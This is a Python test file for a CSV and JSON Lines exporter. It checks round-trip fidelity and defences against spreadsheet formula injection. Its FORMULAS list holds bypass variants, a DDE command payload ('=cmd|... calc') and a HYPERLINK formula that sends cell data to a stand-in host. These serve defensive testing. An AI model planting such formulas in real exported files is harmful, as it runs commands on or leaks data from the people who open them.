"""CSV and JSON Lines, value by value: nothing is lost, and no spreadsheet runs anything."""

import csv
import io
import json

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from flopmeter.collector.export.columns import SCHEMAS, Column, Kind, Schema
from flopmeter.collector.export.formats import CHUNK_ROWS, csv_text, guarded, json_lines, unguarded

SCHEMA = Schema(
    "test/1",
    (
        Column("name", Kind.TEXT, "", ""),
        Column("n", Kind.EXACT, "", ""),
        Column("at", Kind.TIME, "", ""),
        Column("yes", Kind.FLAG, "", ""),
        Column("i", Kind.INTEGER, "", ""),
    ),
)
#: What OWASP names, and what is known to get around those who only look for it.
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200f=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "%0A-1",
    "|calc",
    "'=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"click")',
)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_begins_with_an_apostrophe(text: str) -> None:
    assert guarded(text) == "'" + text
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", ["llama-7", "7b", "Ärger", "{}", "[1]", "/a/b", "(x)", "#1", '"=1"', "日本"])
def test_what_is_harmless_is_left_as_it_is(text: str) -> None:
    assert guarded(text) == text


@given(st.text())
@example("")
@example("'")
@example('a"b,c\r\nd')
def test_any_text_comes_back_to_the_character(text: str) -> None:
    written = "".join(csv_text(SCHEMA, iter([(text, 1, 0, True, 2)])))
    header, row = list(csv.reader(io.StringIO(written, newline=""), strict=True))
    assert header == ["name", "n", "at", "yes", "i"]
    assert unguarded(row[0]) == text
    assert row[1:] == ["1", "1970-01-01T00:00:00.000Z", "true", "2"]
    (line,) = "".join(json_lines(SCHEMA, iter([(text, 1, 0, True, 2)]))).split("\n")[:-1]
    assert json.loads(line) == {
        "schema": "test/1", "name": text, "n": "1", "at": "1970-01-01T00:00:00.000Z", "yes": True, "i": 2
    }  # fmt: skip


def test_what_is_absent_is_empty_and_null() -> None:
    nothing = (None,) * 5
    assert "".join(csv_text(SCHEMA, iter([nothing]))) == "name,n,at,yes,i\r\n,,,,\r\n"
    (line,) = "".join(json_lines(SCHEMA, iter([nothing]))).splitlines()
    assert json.loads(line) == {
        "schema": "test/1",
        "name": None,
        "n": None,
        "at": None,
        "yes": None,
        "i": None,
    }


@pytest.mark.parametrize("count", [0, 1, CHUNK_ROWS - 1, CHUNK_ROWS, CHUNK_ROWS + 1, 3 * CHUNK_ROWS])
def test_every_row_is_written_once(count: int) -> None:
    rows = [(f"r{i}", 10**30 + i, i, False, i) for i in range(count)]
    read = list(csv.reader(io.StringIO("".join(csv_text(SCHEMA, iter(rows))), newline="")))
    assert [r[1] for r in read[1:]] == [str(10**30 + i) for i in range(count)]
    lines = "".join(json_lines(SCHEMA, iter(rows))).splitlines()
    assert [json.loads(line)["n"] for line in lines] == [str(10**30 + i) for i in range(count)]


def test_rows_are_asked_for_as_they_are_written() -> None:
    asked = []

    def rows():
        for i in range(10 * CHUNK_ROWS):
            asked.append(i)
            yield (f"r{i}", i, i, True, i)

    for pieces in (csv_text(SCHEMA, rows()), json_lines(SCHEMA, rows())):
        asked.clear()
        next(pieces)
        assert len(asked) <= CHUNK_ROWS


def test_schemas_have_a_version_and_no_column_twice() -> None:
    for name, schema in SCHEMAS.items():
        assert schema.name == f"flopmeter-{name}/1"
        names = [c.name for c in schema.columns]
        assert len(set(names)) == len(names)
        assert "schema" not in names
        assert all(c.text for c in schema.columns)
